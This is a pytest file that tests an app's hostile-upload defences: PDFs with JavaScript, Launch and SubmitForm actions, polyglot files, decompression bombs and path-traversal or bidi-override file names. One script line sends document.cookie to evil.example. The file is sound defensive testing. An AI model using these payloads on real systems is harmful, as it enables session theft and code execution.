"""Hostile uploads (issue 12, « Hardening »): each sample is made here, byte by byte or with pypdf/Pillow,
then checked by ``inspect_upload`` and, for a representative few, through the API on in-process moto
(presigned POST, confirm, 422 with the French reason and ``field: "file"``, the object deleted).

Refused: PDFs with JavaScript (document-level, on opening, on a page, hidden behind ``#xx`` name escapes or
outside the cross-reference table), launch and other actions that leave the document, automatic actions,
XFA, embedded files (a real Factur-X invoice's XML stays accepted), encryption, too many pages (also when
the page tree lies about its count), too many objects; polyglots (HTML or another format before ``%PDF-``,
anything after ``%%EOF`` / ``IEND`` / the JPEG's end, a ZIP directory at the end, HTML in the first bytes);
image « bombs » (dimensions read from the header, never decoded).
Neutralised: file names (folders, NUL and control characters, bidirectional overrides, compatibility
look-alikes, Windows device names, very long names), stored and downloaded made harmless, the real type's
extension added; download links always ``attachment`` with a set type.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from chalicelib.documents.inspection import (
    MAX_IMAGE_PIXELS,
    MAX_PAGES,
    MAX_PDF_OBJECTS,
    download_name,
    inspect_upload,
    safe_filename,
)
from chalicelib.domain.errors import UploadRejected
from tests.helpers.facturx_sample import facturx_invoice_pdf
from tests.integration.claims_helpers import create_claim, creditor, post, put_object_directly, upload

pytestmark = pytest.mark.integration


# --- samples ---------------------------------------------------------------------------------------------
def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _blank(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return writer


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
    )
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return action


def plain_pdf() -> bytes:
    return _written(_blank())


def pdf_with_document_javascript() -> bytes:
    writer = _blank()
    writer.add_open_action(JavaScript("app.alert('pwned')"))  # the document-level /JavaScript name tree
    return _written(writer)


def pdf_opening_with_javascript() -> bytes:
    writer = _blank()
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/JavaScript", JS=TextStringObject("app.alert(1)")
    )
    return _written(writer)


def pdf_opening_a_web_page() -> bytes:
    writer = _blank()
    writer._root_object[NameObject("/OpenAction")] = _action(
        "/URI", URI=TextStringObject("https://evil.example")
    )
    return _written(writer)


def pdf_opening_on_its_first_page() -> bytes:
    """An /OpenAction that is a destination (« open on page 1, whole page »): harmless, many writers do it."""
    writer = _blank()
    first = writer.pages[0].indirect_reference
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([first, NameObject("/Fit")])
    return _written(writer)


def pdf_with_page_open_action() -> bytes:
    writer = _blank()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("this.print()"))}
    )
    return _written(writer)


def pdf_with_launch_link() -> bytes:
    writer = _blank()
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 595, 842)]),
            NameObject("/A"): _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\calc.exe")),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _written(writer)


def pdf_with_submit_form() -> bytes:
    writer = _blank()
    writer._root_object[NameObject("/Submit")] = writer._add_object(
        _action("/SubmitForm", F=TextStringObject("https://evil.example/collect"))
    )
    return _written(writer)


def pdf_with_xfa_form() -> bytes:
    writer = _blank()
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp:xdp/>")}
    )
    return _written(writer)


def _insert_before_xref(pdf: bytes, data: bytes) -> bytes:
    """``data`` slipped in before the cross-reference table (whose offset is moved along): the file still
    opens, and nothing in the table points at what was slipped in."""
    table = pdf.rindex(b"\nxref\n") + 1
    head, tail = pdf[:table], pdf[table:]
    old_offset = tail.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0]
    tail = tail.replace(b"startxref\n" + old_offset, b"startxref\n" + str(table + len(data)).encode())
    return head + data + tail


def pdf_with_javascript_outside_the_xref_table() -> bytes:
    """An object no cross-reference table lists, its names written with ``#xx`` escapes (``/J#61vaScript``
    is ``/JavaScript``): a reader that rebuilds the table from the raw bytes would find and run it."""
    return _insert_before_xref(plain_pdf(), b"99 0 obj\n<< /S /J#61vaScript /JS (app.alert(1)) >>\nendobj\n")


def pdf_that_is_also_a_zip() -> bytes:
    """A PDF whose end (cross-reference table, trailer, %%EOF) is the comment of a ZIP archive slipped in
    before it: PDF readers read it from its ``%%EOF``, ZIP readers from the directory before the comment."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", "<script>alert(document.cookie)</script>")
        archive.comment = b"\x00"  # replaced below by the PDF's tail
    polyglot = _insert_before_xref(plain_pdf(), buffer.getvalue()[:-1])
    tail = polyglot[int(polyglot.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0]) :]
    # The archive's comment (its last field, its length in the end record's last 2 bytes) is the PDF's tail.
    end_record = polyglot.rindex(b"PK\x05\x06")
    polyglot = polyglot[: end_record + 20] + struct.pack("<H", len(tail)) + tail
    assert zipfile.is_zipfile(io.BytesIO(polyglot))
    return polyglot


def pdf_with_embedded_program() -> bytes:
    writer = _blank()
    writer.add_attachment("facture.exe", b"MZ\x90\x00 not really a program")
    return _written(writer)


def pdf_with_einvoice_name_but_not_xml() -> bytes:
    writer = _blank()
    writer.add_attachment("factur-x.xml", b"MZ\x90\x00 a program named like the invoice's XML")
    return _written(writer)


def pdf_with_einvoice_xml_and_another_file() -> bytes:
    writer = _blank()
    writer.add_attachment("factur-x.xml", b"<?xml version='1.0'?><rsm:CrossIndustryInvoice/>")
    writer.add_attachment("lisez-moi.html", b"<script>alert(1)</script>")
    return _written(writer)


def encrypted_pdf(user_password: str = "secret") -> bytes:
    writer = _blank()
    writer.encrypt(user_password, "proprietaire", algorithm="AES-256")
    return _written(writer)


def pdf_lying_about_its_page_count() -> bytes:
    """The page tree says 1 page, it holds MAX_PAGES + 50: the real count decides."""
    writer = _blank(MAX_PAGES + 50)
    writer._root_object["/Pages"][NameObject("/Count")] = NumberObject(1)
    return _written(writer)


def pdf_claiming_a_million_pages() -> bytes:
    writer = _blank()
    writer._root_object["/Pages"][NameObject("/Count")] = NumberObject(1_000_000)
    return _written(writer)


def pdf_with_too_many_objects() -> bytes:
    writer = _blank()
    filler = ArrayObject(
        writer._add_object(DictionaryObject({NameObject("/N"): NumberObject(n)}))
        for n in range(MAX_PDF_OBJECTS + 10)
    )
    writer._root_object[NameObject("/Filler")] = writer._add_object(filler)
    return _written(writer)


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", "<script>alert(document.cookie)</script>")
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
    return buffer.getvalue()


def pillow_image(kind: str, size: tuple[int, int] = (60, 40)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (180, 30, 30)).save(buffer, kind)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header announces width × height pixels, with a few kilobytes of compressed rows: what a
    decoder would inflate into width × height × 3 bytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (1 + 3 * min(width, 4096)) * 16, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    content = bytearray(pillow_image("JPEG"))
    frame = content.find(b"\xff\xc0")
    content[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def png_with_html_text_chunk() -> bytes:
    image = pillow_image("PNG")
    text = _png_chunk(b"tEXt", b"Comment\x00<html><body><script>alert(1)</script></body></html>")
    return image[:33] + text + image[33:]


SCRIPT = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"

PDF_NAME, PNG_NAME, JPEG_NAME = "facture.pdf", "photo.png", "photo.jpg"


def refused(case: str, make, filename: str, code: str, words: str):
    return pytest.param(make, filename, code, words, id=case)


REFUSED = [
    # active content in a PDF
    refused("pdf-js-names", pdf_with_document_javascript, PDF_NAME, "pdf_active_content", "JavaScript"),
    refused("pdf-openaction-js", pdf_opening_with_javascript, PDF_NAME, "pdf_active_content", "JavaScript"),
    refused("pdf-openaction-uri", pdf_opening_a_web_page, PDF_NAME, "pdf_active_content", "d'elle-même"),
    refused("pdf-page-aa", pdf_with_page_open_action, PDF_NAME, "pdf_active_content", "JavaScript"),
    refused("pdf-launch", pdf_with_launch_link, PDF_NAME, "pdf_active_content", "Launch"),
    refused("pdf-submitform", pdf_with_submit_form, PDF_NAME, "pdf_active_content", "SubmitForm"),
    refused("pdf-xfa", pdf_with_xfa_form, PDF_NAME, "pdf_active_content", "XFA"),
    refused(
        "pdf-escaped-js-outside-xref",
        pdf_with_javascript_outside_the_xref_table,
        PDF_NAME,
        "pdf_active_content",
        "JavaScript",
    ),
    # embedded files
    refused("pdf-embedded-exe", pdf_with_embedded_program, PDF_NAME, "pdf_embedded_file", "facture.exe"),
    refused(
        "pdf-embedded-fake-facturx",
        pdf_with_einvoice_name_but_not_xml,
        PDF_NAME,
        "pdf_embedded_file",
        "factur-x",
    ),
    refused(
        "pdf-embedded-second-file",
        pdf_with_einvoice_xml_and_another_file,
        PDF_NAME,
        "pdf_embedded_file",
        "lisez-moi",
    ),
    # encryption, size of the document
    refused("pdf-encrypted-aes", encrypted_pdf, PDF_NAME, "pdf_encrypted", "mot de passe"),
    refused("pdf-encrypted-no-password", lambda: encrypted_pdf(""), PDF_NAME, "pdf_encrypted", "chiffré"),
    refused("pdf-count-lies-low", pdf_lying_about_its_page_count, PDF_NAME, "too_many_pages", "350 pages"),
    refused("pdf-count-huge", pdf_claiming_a_million_pages, PDF_NAME, "too_many_pages", "1000000 pages"),
    refused("pdf-object-flood", pdf_with_too_many_objects, PDF_NAME, "pdf_too_complex", "trop complexe"),
    # polyglots
    refused(
        "html-then-pdf", lambda: b"<html><body><!--\n" + plain_pdf(), PDF_NAME, "hidden_content", "commence"
    ),
    refused(
        "svg-then-pdf", lambda: b"<svg onload=alert(1)>" + plain_pdf(), PDF_NAME, "hidden_content", "commence"
    ),
    refused("zip-then-pdf", lambda: zip_archive() + plain_pdf(), PDF_NAME, "hidden_content", "commence"),
    refused(
        "pdf-then-html", lambda: plain_pdf() + b"<html>" + SCRIPT, PDF_NAME, "hidden_content", "après la fin"
    ),
    refused("pdf-then-zip", lambda: plain_pdf() + zip_archive(), PDF_NAME, "hidden_content", "après la fin"),
    refused("pdf-that-is-also-a-zip", pdf_that_is_also_a_zip, PDF_NAME, "hidden_content", "archive ZIP"),
    refused(
        "png-then-script", lambda: pillow_image("PNG") + SCRIPT, PNG_NAME, "hidden_content", "après la fin"
    ),
    refused(
        "jpeg-then-script", lambda: pillow_image("JPEG") + SCRIPT, JPEG_NAME, "hidden_content", "après la fin"
    ),
    refused(
        "jpeg-then-zip", lambda: pillow_image("JPEG") + zip_archive(), JPEG_NAME, "hidden_content", "animée"
    ),
    refused("png-html-in-first-bytes", png_with_html_text_chunk, PNG_NAME, "hidden_content", "HTML"),
    # decompression bombs
    refused(
        "png-bomb",
        lambda: png_declaring(50_000, 50_000),
        PNG_NAME,
        "image_too_large",
        "50\u202f000 × 50\u202f000",
    ),
    refused(
        "jpeg-bomb",
        lambda: jpeg_declaring(65_000, 65_000),
        JPEG_NAME,
        "image_too_large",
        "millions de pixels",
    ),
]


@pytest.mark.parametrize(("make", "filename", "code", "words"), REFUSED)
def test_a_hostile_file_is_refused_with_its_reason_in_french(make, filename, code, words):
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(make(), filename=filename)

    error = caught.value
    assert (error.code, error.field) == (code, "file"), error.message
    assert words in error.message
    assert error.message.startswith(f"Le fichier « {filename} »")


@pytest.mark.parametrize(
    ("make", "filename"),
    [
        pytest.param(lambda: facturx_invoice_pdf(), "facture-x.pdf", id="facturx-invoice"),
        pytest.param(pdf_opening_on_its_first_page, "facture.pdf", id="pdf-opens-on-page-1"),
        pytest.param(lambda: plain_pdf() + b"\r\n\x00\x00\n", "facture.pdf", id="pdf-padded-after-eof"),
        pytest.param(lambda: b"\xef\xbb\xbf\n" + plain_pdf(), "facture.pdf", id="pdf-after-bom-and-blank"),
        pytest.param(lambda: pillow_image("JPEG", (1200, 900)), "photo.jpeg", id="jpeg"),
        pytest.param(lambda: pillow_image("PNG", (1200, 900)), "photo.png", id="png"),
        pytest.param(lambda: png_declaring(7016, 9921), "scan-a3-600dpi.png", id="png-a3-600-dpi"),
    ],
)
def test_an_ordinary_file_stays_accepted(make, filename):
    inspected = inspect_upload(make(), filename=filename)

    assert inspected.pages >= 1
    assert MAX_IMAGE_PIXELS >= 7016 * 9921  # what a scanner makes of an A3 page at 600 dpi


def test_the_image_limit_is_read_from_the_header_without_decoding(monkeypatch):
    """Pillow would need gigabytes for this one; the check never imports it."""
    import builtins

    real_import = builtins.__import__

    def no_pillow(name, *args, **kwargs):
        if name.split(".")[0] == "PIL":
            raise AssertionError("the inspection decoded the image")
        return real_import(name, *args, **kwargs)

    content = png_declaring(100_000, 100_000)
    monkeypatch.setattr(builtins, "__import__", no_pillow)
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(content, filename="bombe.png")
    assert caught.value.code == "image_too_large"


# --- file names --------------------------------------------------------------------------------------------
NAMES = [
    # (sent, stored, downloaded once the PDF is accepted)
    pytest.param("../../etc/passwd", "passwd", "passwd.pdf", id="dot-dot"),
    pytest.param("/var/www/facture.pdf", "facture.pdf", "facture.pdf", id="absolute"),
    pytest.param("C:\\Users\\claire\\facture.pdf", "facture.pdf", "facture.pdf", id="windows-path"),
    pytest.param("fac\x00ture\x07\x1b[31m.pdf", "facture[31m.pdf", "facture[31m.pdf", id="nul-and-controls"),
    pytest.param("facture\u202efdp.exe", "facturefdp.exe", "facturefdp.exe.pdf", id="bidi-override-exe"),
    pytest.param(
        "relev\u00e9\u200b\u2066.pdf\u2069", "relevé.pdf", "relevé.pdf", id="zero-width-and-isolates"
    ),
    pytest.param("ｆａｃｔｕｒｅ．ｅｘｅ", "facture.exe", "facture.exe.pdf", id="fullwidth"),
    pytest.param("facture\u2024exe", "facture.exe", "facture.exe.pdf", id="one-dot-leader"),
    pytest.param("CON.pdf", "_CON.pdf", "_CON.pdf", id="windows-con"),
    pytest.param("lpt1", "_lpt1", "_lpt1.pdf", id="windows-lpt1"),
    pytest.param('a<b>:c"d|e?f*.pdf', "a_b__c_d_e_f_.pdf", "a_b__c_d_e_f_.pdf", id="windows-forbidden"),
    pytest.param(" ..cachée. ", "cachée", "cachée.pdf", id="dots-and-spaces"),
    pytest.param("\u200b\u202e", "document", "document.pdf", id="nothing-left"),
    pytest.param("é" * 195 + ".pdf", "é" * 116 + ".pdf", "é" * 116 + ".pdf", id="very-long"),
]


@pytest.mark.parametrize(("sent", "stored", "downloaded"), NAMES)
def test_a_file_name_is_made_harmless(sent, stored, downloaded):
    assert safe_filename(sent) == stored
    assert download_name(sent, "application/pdf") == downloaded
    for name in (stored, downloaded):
        assert len(name) <= 120
        assert "/" not in name and "\\" not in name and ".." not in name
        assert all(ch.isprintable() for ch in name)


def test_an_image_keeps_its_own_extension_and_gets_the_real_one_otherwise():
    assert download_name("photo.JPEG", "image/jpeg") == "photo.JPEG"
    assert download_name("photo.png", "image/jpeg") == "photo.png.jpg"
    assert download_name("scan", "image/png") == "scan.png"


# --- through the API -------------------------------------------------------------------------------------
def _object_count(claim_id: str) -> int:
    from chalicelib.adapters.aws import client
    from chalicelib.settings import get_settings

    listed = client("s3").list_objects_v2(
        Bucket=get_settings().documents_bucket, Prefix=f"claims/{claim_id}/"
    )
    return int(listed.get("KeyCount", 0))


@pytest.mark.parametrize(
    ("make", "filename", "content_type", "code"),
    [
        pytest.param(
            pdf_with_document_javascript, "facture.pdf", "application/pdf", "pdf_active_content", id="js"
        ),
        pytest.param(
            pdf_with_embedded_program, "facture.pdf", "application/pdf", "pdf_embedded_file", id="embedded"
        ),
        pytest.param(
            lambda: plain_pdf() + SCRIPT, "facture.pdf", "application/pdf", "hidden_content", id="polyglot"
        ),
        pytest.param(
            lambda: png_declaring(30_000, 30_000), "photo.png", "image/png", "image_too_large", id="bomb"
        ),
    ],
)
def test_through_the_api_a_hostile_upload_answers_422_naming_the_file_and_is_deleted(
    api, make, filename, content_type, code
):
    token = creditor(api)
    claim_id = create_claim(api, token)["claim_id"]

    response, document_id = upload(api, token, claim_id, make(), filename=filename, content_type=content_type)

    assert response.status_code == 422, response.json_body
    error = response.json_body["error"]
    assert (error["code"], error["field"]) == (code, "file")
    assert f"« {filename} »" in error["message"]
    assert _object_count(claim_id) == 0
    claim = api.http.get(f"/v1/claims/{claim_id}", headers={"Authorization": f"Bearer {token}"}).json_body
    assert document_id not in {d["document_id"] for d in claim["documents"]}


def test_through_the_api_a_real_facturx_invoice_stays_accepted_and_prefills(api):
    token = creditor(api)
    claim_id = create_claim(api, token)["claim_id"]

    response, _ = upload(
        api, token, claim_id, facturx_invoice_pdf(number="F-2026-042"), filename="facture.pdf"
    )

    assert response.status_code == 200, response.json_body
    assert response.json_body["prefill"]["invoice"]["number"] == "F-2026-042"


def test_through_the_api_a_hostile_name_is_stored_harmless_and_downloaded_with_the_real_extension(api):
    token = creditor(api)
    claim_id = create_claim(api, token)["claim_id"]
    slot = post(
        api,
        f"/v1/claims/{claim_id}/documents",
        {"filename": "C:\\fakepath\\facture\u202efdp.exe", "content_type": "application/pdf"},
        token,
    )
    assert slot.status_code == 201, slot.json_body
    document = slot.json_body["document"]
    assert document["filename"] == "facturefdp.exe"
    # The storage key is the platform's, never the user's name.
    assert slot.json_body["upload"]["fields"]["key"] == f"claims/{claim_id}/uploads/{document['document_id']}"

    put_object_directly(claim_id, document["document_id"], plain_pdf())
    confirmed = post(api, f"/v1/claims/{claim_id}/documents/{document['document_id']}/confirm", {}, token)

    assert confirmed.status_code == 200, confirmed.json_body
    assert confirmed.json_body["document"]["filename"] == "facturefdp.exe.pdf"
    timeline = api.http.get(f"/v1/claims/{claim_id}/timeline", headers={"Authorization": f"Bearer {token}"})
    assert "\u202e" not in timeline.body.decode()


# --- downloads ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("filename", "content_type", "disposition"),
    [
        ("mise-en-demeure.pdf", "application/pdf", 'attachment; filename="mise-en-demeure.pdf"'),
        ("dossier.zip", "application/zip", 'attachment; filename="dossier.zip"'),
        ("facture\u202egpj.exe", "application/octet-stream", 'attachment; filename="facturegpj.exe"'),
        ("../../relevé.html", "application/octet-stream", 'attachment; filename="releve.html"'),
    ],
)
def test_a_download_link_is_always_an_attachment_with_a_set_type_whatever_was_stored(
    aws, filename, content_type, disposition
):
    import requests

    from chalicelib.adapters.document_store import DocumentStore

    store = DocumentStore()
    store.put(
        "claims/c/notice/piece", b"<html>" + SCRIPT + b"</html>", "text/html"
    )  # as a hostile client could

    answer = requests.get(store.presigned_get("claims/c/notice/piece", filename), timeout=10)

    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == content_type
    assert answer.headers["Content-Disposition"].startswith(disposition)
    assert answer.headers["Cache-Control"] == "private, no-store"
